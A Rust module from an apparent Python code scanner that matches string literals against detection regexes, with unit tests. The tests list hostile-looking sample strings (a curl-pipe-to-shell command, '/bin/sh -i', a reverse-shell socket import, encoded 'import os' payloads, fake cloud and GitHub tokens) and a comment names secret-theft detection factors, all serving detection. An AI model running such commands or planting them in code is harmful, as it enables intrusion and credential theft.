//! `string:` — a str or bytes literal, or the outermost constant expression that folds to one
//! (`"ev" + "al"`, `"".join([...])`, `bytes.fromhex(...)`), matched against the rule's regex.
//! Bytes are matched as latin-1 text. Each regex runs on its own, and only when a rule needs it:
//! `all: [string: <rare>, string: '[A-Z]']` stops at the first. (A combined regex set was
//! slower: cheap patterns such as `[A-Z]` match nearly every string, so the set never rules a
//! string out.) Within a file, results are remembered per literal.

use crate::compile::Compiled;
use crate::matchers::StringOracle;
use crate::matchers::required::ByteSet;
use smallvec::SmallVec;

use crate::value::{Interner, QName};

/// How many characters of the matched string a finding keeps as its subject.
const SUBJECT_CHARS: usize = 80;

/// Which string regexes are known to match one text, filled in as rules ask.
#[derive(Clone, Debug, Default)]
pub(crate) struct Memo {
    known: Bits,
    value: Bits,
    /// The text met with no other hit at its node left no string rule to evaluate (each was
    /// too long for it, or needed regexes its prefilters turned down): met so again, it is
    /// settled without asking.
    pub(crate) nothing: bool,
    /// Whether some string regex passes its prefilters on the text, once asked (see
    /// [`Lazy::admits_any`]).
    pub(crate) admits: Option<bool>,
}

impl Memo {
    fn get(&self, index: u32) -> Option<bool> {
        let (word, bit) = ((index / 64) as usize, 1u64 << (index % 64));
        let known = self.known.get(word).is_some_and(|w| w & bit != 0);
        known.then(|| self.value.get(word).is_some_and(|w| w & bit != 0))
    }

    /// Records every regex of `wanted` not in `possible` (and not known) as not matching.
    fn reject(&mut self, wanted: &Bits, possible: &Bits) {
        if self.known.len() < wanted.len() {
            self.known.resize(wanted.len(), 0);
            self.value.resize(wanted.len(), 0);
        }
        for (w, (&want, known)) in wanted.iter().zip(self.known.iter_mut()).enumerate() {
            *known |= want & !word(possible, w);
        }
    }

    fn set(&mut self, index: u32, matched: bool) {
        let (word, bit) = ((index / 64) as usize, 1u64 << (index % 64));
        if self.known.len() <= word {
            self.known.resize(word + 1, 0);
            self.value.resize(word + 1, 0);
        }
        self.known[word] |= bit;
        if matched {
            self.value[word] |= bit;
        }
    }
}

/// Regex indices as bits, one per string regex. Two words inline: the built-in rules have more
/// than 64 regexes (and fewer than 128), and a third of the scan's string candidates ask
/// several of these sets, which spilled to the heap with one word inline (1.2% of the engine's
/// instructions).
pub(crate) type Bits = SmallVec<[u64; 2]>;

pub(crate) fn set_bit(bits: &mut Bits, index: usize) {
    let word = index / 64;
    if bits.len() <= word {
        bits.resize(word + 1, 0);
    }
    bits[word] |= 1u64 << (index % 64);
}

pub(crate) fn has_bit(bits: &Bits, index: usize) -> bool {
    bits.get(index / 64).is_some_and(|w| w & (1u64 << (index % 64)) != 0)
}

/// Adds the bits of `other` to `bits`.
pub(crate) fn union_into(bits: &mut Bits, other: &Bits) {
    if bits.len() < other.len() {
        bits.resize(other.len(), 0);
    }
    for (a, b) in bits.iter_mut().zip(other) {
        *a |= b;
    }
}

/// Whether the two sets share a bit. A plain loop over the shorter length: asked for every
/// string a rule tests, and the `zip` of two small vectors was left as a call per word in
/// some builds.
#[inline]
pub(crate) fn intersects(a: &Bits, b: &Bits) -> bool {
    let (a, b) = (a.as_slice(), b.as_slice());
    let n = a.len().min(b.len());
    let (a, b) = (&a[..n], &b[..n]);
    for i in 0..n {
        if a[i] & b[i] != 0 {
            return true;
        }
    }
    false
}

/// The indices of the bits set, in order.
pub(crate) fn bit_indices(bits: &Bits) -> impl Iterator<Item = u32> + '_ {
    bits.iter().enumerate().flat_map(|(word, &w)| {
        let base = u32::try_from(word).unwrap_or(u32::MAX).saturating_mul(64);
        // Each step clears the lowest set bit: as many steps as bits set.
        std::iter::successors((w != 0).then_some(w), |&rest| {
            let rest = rest & (rest - 1);
            (rest != 0).then_some(rest)
        })
        .map(move |rest| base.saturating_add(rest.trailing_zeros()))
    })
}

/// How many leading bytes of a factor the automaton searches (see [`Gate`]).
const FACTOR_PREFIX: usize = 12;

/// What admits one regex: a factor found in a text of at least `min` bytes.
#[derive(Clone, Copy, Debug)]
struct Admit {
    regex: u32,
    min: usize,
}

/// The literal factors of every string regex that has some (see `matchers::factors`), found
/// ASCII-case-insensitively: factors of two bytes or more by one Aho-Corasick automaton
/// searched once per string candidate, single-byte factors by the set of bytes the text holds.
/// A gated regex none of whose factors occur cannot match and is not run.
///
/// Factors are searched by their first [`FACTOR_PREFIX`] bytes: a prefix of a factor is in
/// every match too, and the automaton of the full factors (`-----begin openssh private
/// key-----`, `discordcanary/local storage`...) has a table of 1.1 MB against 0.7 MB, which
/// stays in cache less, for 0.07% fewer factor hits on the corpus sample's strings.
#[derive(Debug, Default)]
pub(crate) struct Gate {
    automaton: Option<aho_corasick::AhoCorasick>,
    /// Per automaton pattern, the regexes it admits.
    admits: Vec<SmallVec<[Admit; 1]>>,
    /// Per regex, its single-byte factors (lowered) with their witness lengths.
    bytes: Vec<SmallVec<[(u8, usize); 2]>>,
    /// The regexes that have factors (the others are not gated).
    gated: Bits,
}

impl Gate {
    /// `factors[i]` is the factor set of string regex `i`, if it has one; `kind` is the kind
    /// of automaton (a DFA searches fastest, an NFA is built in half the time).
    pub(crate) fn new(
        factors: &[Option<crate::matchers::factors::Factors>],
        kind: aho_corasick::AhoCorasickKind,
    ) -> Self {
        let mut patterns: Vec<&[u8]> = Vec::new();
        let mut admits: Vec<SmallVec<[Admit; 1]>> = Vec::new();
        let mut bytes = vec![SmallVec::new(); factors.len()];
        let mut gated = Bits::new();
        for (regex, set) in factors.iter().enumerate() {
            let Some(set) = set else { continue };
            set_bit(&mut gated, regex);
            let regex_id = u32::try_from(regex).unwrap_or(u32::MAX);
            for (f, min) in set {
                if let [b] = f.as_slice() {
                    bytes[regex].push((*b, *min));
                    continue;
                }
                let f = &f[..f.len().min(FACTOR_PREFIX)];
                let at = match patterns.iter().position(|p| *p == f) {
                    Some(at) => at,
                    None => {
                        patterns.push(f);
                        admits.push(SmallVec::new());
                        patterns.len() - 1
                    }
                };
                admits[at].push(Admit { regex: regex_id, min: *min });
            }
        }
        let automaton = if patterns.is_empty() {
            None
        } else {
            let built = aho_corasick::AhoCorasick::builder()
                .ascii_case_insensitive(true)
                .kind(Some(kind))
                .build(&patterns);
            match built {
                Ok(a) => Some(a),
                // Unreachable in practice (the patterns are few and short); without an
                // automaton no regex is gated.
                Err(_) => return Self::default(),
            }
        };
        Self { automaton, admits, bytes, gated }
    }

    fn is_gated(&self, index: u32) -> bool {
        has_bit(&self.gated, index as usize)
    }

    /// The regexes that have factors.
    pub(crate) fn gated(&self) -> &Bits {
        &self.gated
    }

    /// The gated regexes that have single-byte factors.
    pub(crate) fn byte_factored(&self) -> Bits {
        let mut out = Bits::new();
        for (index, list) in self.bytes.iter().enumerate() {
            if !list.is_empty() {
                set_bit(&mut out, index);
            }
        }
        out
    }

    /// The gated regexes whose multi-byte factors occur in `text` (long enough for them).
    fn found(&self, text: &str) -> Bits {
        let mut out = Bits::new();
        let Some(ac) = &self.automaton else { return out };
        let canonical;
        let haystack = if memchr::memchr2(0xe2, 0xc5, text.as_bytes()).is_some()
            && text.contains(['\u{212a}', '\u{17f}'])
        {
            canonical =
                text.chars().map(crate::matchers::factors::canonical_char).collect::<String>();
            canonical.as_str()
        } else {
            text
        };
        for m in ac.find_overlapping_iter(haystack) {
            for a in self.admits.get(m.pattern().as_usize()).into_iter().flatten() {
                if text.len() >= a.min {
                    set_bit(&mut out, a.regex as usize);
                }
            }
        }
        out
    }

    /// Whether regex `index`'s single-byte factors admit a text of `len` bytes holding
    /// `present`.
    fn bytes_admit(&self, index: u32, len: usize, present: &ByteSet) -> bool {
        self.bytes.get(index as usize).is_some_and(|list| {
            list.iter().any(|&(b, min)| {
                len >= min && (present.contains(b) || present.contains(b.to_ascii_uppercase()))
            })
        })
    }
}

/// The string regexes' prefilters as bit sets, so that a candidate is tested against all the
/// regexes its rules need at once (see [`Lazy::possible`]) rather than one regex at a time.
#[derive(Debug, Default)]
pub(crate) struct Prefilter {
    /// By text length `n`, the regexes whose matches need at most `n` bytes.
    long_enough: ByLength<Bits>,
    /// The gated regexes.
    gated: Bits,
    /// The gated regexes with single-byte factors (tried when none of their longer factors
    /// occur).
    byte_factored: Bits,
    /// The ungated regexes with a set of required bytes.
    required: Bits,
    /// The ungated regexes without one: always admitted once the text is long enough.
    free: Bits,
}

/// Rows by text length that change only at a few lengths (the minimum lengths of regexes or
/// rules): one row per such length, the row for a text being the last one whose length it
/// reaches. Built in microseconds (the engine is built on every `pysbx exec`, and a row per
/// length up to the longest minimum, 600, took 0.17 ms); a short text (most string candidates
/// are under 16 bytes) finds its row by index, a longer one by a binary search.
#[derive(Debug, Default)]
pub(crate) struct ByLength<T> {
    /// Ascending lengths, the first 0, each with its row.
    steps: Vec<(usize, T)>,
    /// For each length below [`DENSE_LENGTHS`], the index of its step.
    dense: Vec<usize>,
}

/// Lengths looked up by index in a [`ByLength`].
const DENSE_LENGTHS: usize = 64;

impl<T> ByLength<T> {
    /// The rows at 0 and at each of `lengths`, as `row` makes them.
    pub(crate) fn build(
        lengths: impl IntoIterator<Item = usize>,
        mut row: impl FnMut(usize) -> T,
    ) -> Self {
        let mut at: Vec<usize> = std::iter::once(0).chain(lengths).collect();
        at.sort_unstable();
        at.dedup();
        let dense = (0..DENSE_LENGTHS)
            .map(|len| at.partition_point(|&a| a <= len).saturating_sub(1))
            .collect();
        Self { steps: at.into_iter().map(|len| (len, row(len))).collect(), dense }
    }

    /// The row for a text of `len` bytes (`None` only for an empty table).
    pub(crate) fn get(&self, len: usize) -> Option<&T> {
        let step = match self.dense.get(len) {
            Some(&step) => step,
            None => self.steps.partition_point(|(at, _)| *at <= len).checked_sub(1)?,
        };
        self.steps.get(step).map(|(_, row)| row)
    }
}

impl Prefilter {
    pub(crate) fn new(compiled: &Compiled) -> Self {
        let count = compiled.string_regexes.len();
        let long_enough = ByLength::build(compiled.string_min_len.iter().copied(), |n| {
            Self::mask_by_length(compiled, n)
        });
        let gated = compiled.string_gate.gated().clone();
        let mut required = Bits::new();
        let mut free = Bits::new();
        for index in 0..count {
            if has_bit(&gated, index) {
                continue;
            }
            match compiled.string_required.get(index) {
                Some(Some(_)) => set_bit(&mut required, index),
                _ => set_bit(&mut free, index),
            }
        }
        Self {
            long_enough,
            byte_factored: compiled.string_gate.byte_factored(),
            gated,
            required,
            free,
        }
    }

    fn mask_by_length(compiled: &Compiled, len: usize) -> Bits {
        let mut out = Bits::new();
        for (index, &min) in compiled.string_min_len.iter().enumerate() {
            if len >= min {
                set_bit(&mut out, index);
            }
        }
        out
    }
}

/// The string rules a candidate of some length may satisfy without other hits at its node
/// (long enough, and with a non-ASCII character if the rule needs one), by index into
/// `Compiled::string_rules`, and the union of the regexes they need.
#[derive(Clone, Debug, Default)]
pub(crate) struct Fit {
    pub(crate) rules: Bits,
    pub(crate) wanted: Bits,
}

impl Fit {
    /// `[ascii, not ascii]` by text length.
    pub(crate) fn table(compiled: &Compiled) -> ByLength<[Fit; 2]> {
        ByLength::build(compiled.string_rule_min_len.iter().copied(), |len| {
            [Self::of(compiled, len, true), Self::of(compiled, len, false)]
        })
    }

    pub(crate) fn of(compiled: &Compiled, len: usize, ascii: bool) -> Fit {
        let mut fit = Fit::default();
        let needs = compiled
            .string_rule_min_len
            .iter()
            .zip(&compiled.string_rule_non_ascii)
            .zip(&compiled.string_rule_regexes);
        for (k, ((&min, &non_ascii), regexes)) in needs.enumerate() {
            if len >= min && !(non_ascii && ascii) {
                set_bit(&mut fit.rules, k);
                if let Some(regexes) = regexes {
                    union_into(&mut fit.wanted, regexes);
                }
            }
        }
        fit
    }
}

/// Word `w` of a bit set (zero past its end).
fn word(bits: &Bits, w: usize) -> u64 {
    bits.get(w).copied().unwrap_or(0)
}

/// Runs a string leaf's regex on `text` the first time a rule needs it, unless the text is
/// shorter than any match, lacks every literal factor of the regex, or (for a regex without
/// factors) every byte the regex requires.
pub(crate) struct Lazy<'x> {
    pub(crate) compiled: &'x Compiled,
    pub(crate) text: &'x str,
    pub(crate) memo: &'x mut Memo,
    pub(crate) present: Option<ByteSet>,
    pub(crate) admitted: Option<Bits>,
    pub(crate) ascii: Option<bool>,
}

impl<'x> Lazy<'x> {
    /// An oracle for `text` that has run nothing yet, remembering what it runs in `memo`.
    pub(crate) fn new(compiled: &'x Compiled, text: &'x str, memo: &'x mut Memo) -> Self {
        Lazy { compiled, text, memo, present: None, admitted: None, ascii: None }
    }

    /// Whether some string regex, of whatever rule, passes its prefilters on the text: one
    /// that none passes matches nowhere the text is used.
    pub(crate) fn admits_any(&mut self) -> bool {
        // The regexes the text is long enough for: the others are out whatever it holds.
        let c = self.compiled;
        let Some(long_enough) = c.string_prefilter.long_enough.get(self.text.len()) else {
            return false;
        };
        self.possible(long_enough).iter().any(|w| *w != 0)
    }

    /// Whether the text passes regex `index`'s prefilters: long enough, holding one of its
    /// literal factors or (for a regex without factors) one of the bytes it requires.
    fn admits(&mut self, index: u32) -> bool {
        let c = self.compiled;
        let text = self.text;
        let long_enough = c.string_min_len.get(index as usize).is_none_or(|&n| text.len() >= n);
        long_enough
            && (c.string_gate.is_gated(index)
                && has_bit(
                    self.admitted.get_or_insert_with(|| c.string_gate.found(text)),
                    index as usize,
                )
                || self.bytes_admit(index))
    }

    /// Whether regex `index`'s byte tests admit the text: for a gated regex its single-byte
    /// factors (its longer ones are the factor search's), for another its required bytes.
    fn bytes_admit(&mut self, index: u32) -> bool {
        let c = self.compiled;
        let text = self.text;
        let present = self.present.get_or_insert_with(|| ByteSet::of_text(text));
        if c.string_gate.is_gated(index) {
            c.string_gate.bytes_admit(index, text.len(), present)
        } else {
            match c.string_required.get(index as usize) {
                Some(Some(required)) => required.intersects(present),
                _ => true,
            }
        }
    }
}

impl StringOracle for Lazy<'_> {
    fn text_len(&self) -> usize {
        self.text.len()
    }

    fn is_ascii(&mut self) -> bool {
        *self.ascii.get_or_insert_with(|| self.text.is_ascii())
    }

    fn matches(&mut self, index: u32) -> bool {
        if let Some(known) = self.memo.get(index) {
            return known;
        }
        let matched = self.admits(index)
            && self
                .compiled
                .string_regexes
                .get(index as usize)
                .is_some_and(|r| r.is_match(self.text));
        self.memo.set(index, matched);
        matched
    }

    fn possible(&mut self, wanted: &Bits) -> Bits {
        let c = self.compiled;
        let p = &c.string_prefilter;
        let len = self.text.len();
        let no_regex = Bits::new();
        let long_enough = p.long_enough.get(len).unwrap_or(&no_regex);
        // Known results first; the others are asked of the prefilters, all words at once.
        let mut out = Bits::new();
        let mut ask = Bits::new();
        let mut ask_gated = 0u64;
        for (w, &want) in wanted.iter().enumerate() {
            let known = word(&self.memo.known, w);
            out.push(want & known & word(&self.memo.value, w));
            let asked = want & !known & word(long_enough, w);
            ask.push(asked);
            ask_gated |= asked & word(&p.gated, w);
        }
        // The factor search, once per text, only when a gated regex is asked.
        let found = if ask_gated == 0 {
            None
        } else {
            let text = self.text;
            Some(&*self.admitted.get_or_insert_with(|| c.string_gate.found(text)))
        };
        let mut by_bytes = Bits::new();
        for (w, &asked) in ask.iter().enumerate() {
            let gated = asked & word(&p.gated, w);
            let hit = found.map_or(0, |f| word(f, w));
            out[w] |= (gated & hit) | (asked & word(&p.free, w));
            by_bytes
                .push((gated & !hit & word(&p.byte_factored, w)) | (asked & word(&p.required, w)));
        }
        for index in bit_indices(&by_bytes) {
            if self.bytes_admit(index) {
                set_bit(&mut out, index as usize);
            }
        }
        // A regex the prefilters turned down cannot match the text: remembered as a failed
        // match, so that the same literal met again in the file skips the factor search.
        self.memo.reject(wanted, &out);
        out
    }
}

/// The subject of a string finding: the text, cut to [`SUBJECT_CHARS`] characters.
pub(crate) fn subject(text: &str, interner: &mut Interner) -> QName {
    interner.intern(&truncate(text))
}

/// Bytes as latin-1 text (each byte one code point), for regex matching.
pub(crate) fn latin1(bytes: &[u8]) -> String {
    bytes.iter().map(|&b| char::from(b)).collect()
}

fn truncate(text: &str) -> String {
    match text.char_indices().nth(SUBJECT_CHARS) {
        Some((at, _)) => format!("{}...", &text[..at]),
        None => text.to_string(),
    }
}

#[cfg(test)]
mod tests {
    use crate::matchers::testing::{analyzer, findings, lines, pack};

    #[test]
    fn literals_and_folded_expressions_once() {
        let an = analyzer(&pack("TST500", "{string: 'https?://\\d+\\.\\d+\\.\\d+\\.\\d+'}"));
        let src = "a = 'http://1.2.3.4/x'\nb = 'http://' + '1.2.3.4'\nc = ''.join(['http', '://', '10.0.0.1'])\nd = 'https://example.com'\ne = b'http://5.6.7.8'\n";
        assert_eq!(lines(&an, src, "TST500"), vec![1, 2, 3, 5]);
        let got = findings(&an, "x = 'http://1.2.3.4' + '/path'\n");
        assert_eq!(got.len(), 1, "the outermost expression only: {got:?}");
    }

    #[test]
    fn names_bound_to_constants_fold() {
        let an = analyzer(&pack("TST501", "{string: '^eval$'}"));
        let src = "a = 'ev'\nb = 'al'\nc = a + b\nd = a\n";
        assert_eq!(lines(&an, src, "TST501"), vec![3]);
    }

    #[test]
    fn encoded_payloads() {
        let an = analyzer(&pack("TST502", "{string: 'import os'}"));
        let src = "import base64, codecs\nbase64.b64decode('aW1wb3J0IG9z')\nbytes.fromhex('696d706f7274206f73')\ncodecs.decode('vzcbeg bf', 'rot13')\n'so tropmi'[::-1]\n''.join(map(chr, [105, 109, 112, 111, 114, 116, 32, 111, 115]))\n";
        assert_eq!(lines(&an, src, "TST502"), vec![2, 3, 4, 5, 6]);
    }

    #[test]
    fn short_and_ascii_strings_skip_only_rules_they_cannot_satisfy() {
        // A rule whose other leaf matched at the node is evaluated whatever the string's length.
        let an =
            analyzer(&pack("TST504", "{all: [{call: builtins.bytes.fromhex}, {string: '^A$'}]}"));
        assert_eq!(lines(&an, "bytes.fromhex('41')\nx = 'A'\n", "TST504"), vec![1]);
        // A rule that needs a non-ASCII character still sees the strings that have one.
        let an = analyzer(&pack("TST505", "{string: '[\\x{202A}-\\x{202E}]'}"));
        assert_eq!(lines(&an, "a = 'ab'\nb = '\u{202e}'\nc = 'x\u{202a}'\n", "TST505"), vec![2, 3]);
        // A `not` needs nothing: with a regex that matches the empty string, the rule holds on
        // the empty string.
        let an = analyzer(&pack("TST506", "{all: [{string: '^'}, {not: {string: 'x'}}]}"));
        assert_eq!(lines(&an, "a = ''\nb = 'x'\n", "TST506"), vec![1]);
        // An `all` of a regex and a filter runs the regex only where the filter holds, with
        // the same outcome.
        let an = analyzer(&pack(
            "TST507",
            "{all: [{string: '^a\\.b$'}, {inside: {call: socket.gethostbyname}}]}",
        ));
        let src = "import socket\nx = 'a.b'\nsocket.gethostbyname('a.b')\n";
        assert_eq!(lines(&an, src, "TST507"), vec![3]);
    }

    #[test]
    fn bit_indices_are_the_bits_set() {
        let mut bits = super::Bits::new();
        for i in [0, 5, 63, 64, 130] {
            super::set_bit(&mut bits, i);
        }
        assert_eq!(super::bit_indices(&bits).collect::<Vec<_>>(), vec![0, 5, 63, 64, 130]);
        assert_eq!(super::bit_indices(&super::Bits::new()).count(), 0);
    }

    #[test]
    fn rules_are_left_out_only_when_every_regex_they_need_fails_its_prefilters() {
        // `all` needs its string operand's regex; `not` of a regex needs nothing.
        let an = analyzer(&pack("TST508", "{all: [{string: 'ab'}, {not: {string: 'abc'}}]}"));
        assert_eq!(lines(&an, "a = 'xab'\nb = 'abc'\nc = 'xyz'\n", "TST508"), vec![1]);
        // A branch of `any` that holds on every string without a `q` is never left out.
        let an = analyzer(&pack(
            "TST509",
            "{any: [{string: 'zz'}, {all: [{string: '^'}, {not: {string: 'q'}}]}]}",
        ));
        assert_eq!(lines(&an, "a = 'hello'\nb = 'q'\nc = 'zz q'\n", "TST509"), vec![1, 3]);
        // An `any` of two regexes holds on either.
        let an = analyzer(&pack("TST510", "{any: [{string: 'left'}, {string: 'right'}]}"));
        assert_eq!(lines(&an, "a = 'left'\nb = 'right'\nc = 'middle'\n", "TST510"), vec![1, 2]);
    }

    #[test]
    fn regexes_only_under_not_are_run_without_the_factor_search() {
        let an = analyzer(&pack(
            "TST511",
            "{all: [{string: 'secret-[0-9]+'}, {not: {string: '(?m)^description:'}}]}",
        ));
        let c = &an.compiled;
        let index = |pattern: &str| c.string_index.get(pattern).copied().expect("compiled");
        assert!(c.string_gate.is_gated(index("secret-[0-9]+")));
        assert!(!c.string_gate.is_gated(index("(?m)^description:")));
        // Left out of the search, the `not` operand still decides.
        let src = "a = 'secret-1'\nb = 'description: secret-2'\nc = 'other'\n";
        assert_eq!(lines(&an, src, "TST511"), vec![1]);
    }

    #[test]
    fn long_subjects_are_truncated() {
        let an = analyzer(&pack("TST503", "{string: 'x{100}'}"));
        let got = findings(&an, &format!("s = '{}'\n", "x".repeat(200)));
        assert_eq!(got[0].2.chars().count(), 83);
    }

    #[test]
    fn rows_by_length_change_at_the_given_lengths() {
        use super::ByLength;
        let table = ByLength::build([5, 3, 5, 600], |n| n);
        let at = |len| table.get(len).copied();
        let got = [0, 2, 3, 4, 5, 599, 600, 100_000].map(at);
        assert_eq!(got, [0, 0, 3, 3, 5, 5, 600, 600].map(Some));
        let wide = ByLength::build([1, 63, 64, 65, 200], |n| n);
        let got = [0, 1, 62, 63, 64, 65, 199, 200, 201].map(|len| wide.get(len).copied());
        assert_eq!(got, [0, 1, 1, 63, 64, 65, 65, 200, 200].map(Some), "across the dense part");
        assert_eq!(ByLength::build([], |n| n).get(7), Some(&0));
        assert_eq!(ByLength::<usize>::default().get(7), None);
    }

    /// The bulk prefilter (`possible`) admits exactly the regexes the one-at-a-time test
    /// (`admits`, with the memo) admits, on texts that exercise each kind of prefilter: short,
    /// long, non-ASCII, with and without literal factors, single-byte factors and required
    /// bytes, and with results already known.
    #[test]
    fn bulk_prefilter_agrees_with_one_regex_at_a_time() {
        let rules = pysbx_rules::builtin_rules().expect("built-in rules load");
        let builtin = crate::Analyzer::new(&rules).expect("built-in rules compile");
        // Regexes without factors or required bytes (admitted by length alone), with a
        // single-byte factor, and with short minimum lengths.
        let custom = analyzer(&pack(
            "TST509",
            "{any: [{string: '^$'}, {string: 'x?y?'}, {string: '[A-Z]{3}'}, {string: 'ab+c'}, {string: '(?i)token'}, {string: '\\.'}, {string: 'é'}, {string: 'y{5000}'}]}",
        ));
        for an in [&builtin, &custom] {
            prefilters_agree(an);
        }
    }

    fn prefilters_agree(an: &crate::Analyzer) {
        use super::{Bits, Lazy, Memo, bit_indices, has_bit, set_bit};
        use crate::matchers::StringOracle;
        let c = &an.compiled;
        let count = c.string_regexes.len();
        assert!(count > 0, "the rules have string regexes");
        let mut all = Bits::new();
        for index in 0..count {
            set_bit(&mut all, index);
        }
        let long_b64 = "QUJD".repeat(40);
        let longer_than_the_table = "y".repeat(5001);
        let texts = [
            "",
            "a",
            "ab",
            "eval",
            "exec(",
            "os.system",
            "/bin/sh -i",
            "http://10.0.0.1:4444/x",
            "AKIAABCDEFGHIJKLMNOP",
            "password",
            "ghp_0123456789abcdefghijklmnopqrstuvwxyz",
            "-----BEGIN RSA PRIVATE KEY-----",
            "caf\u{e9}",
            "a\u{202e}b",
            "\u{212a}ey",
            "x = __import__('os')",
            "curl http://example.com | sh",
            long_b64.as_str(),
            "import socket,subprocess;s=socket.socket()",
            longer_than_the_table.as_str(),
        ];
        for text in texts {
            for known_first in [false, true] {
                let mut memo = Memo::default();
                if known_first {
                    // Results already known for the first few regexes, both ways.
                    for index in 0..count.min(6) {
                        memo.set(u32::try_from(index).unwrap_or(0), index % 2 == 0);
                    }
                }
                let mut bulk_memo = memo.clone();
                let mut bulk = Lazy::new(c, text, &mut bulk_memo);
                let possible = bulk.possible(&all);
                let mut single = Lazy::new(c, text, &mut memo);
                for index in 0..count {
                    let i = u32::try_from(index).unwrap_or(0);
                    let expected = single.memo.get(i).unwrap_or_else(|| single.admits(i));
                    assert_eq!(
                        has_bit(&possible, index),
                        expected,
                        "regex {index} on {text:?} (memo {known_first})"
                    );
                }
                assert!(bit_indices(&possible).all(|i| (i as usize) < count));
            }
        }
    }
}
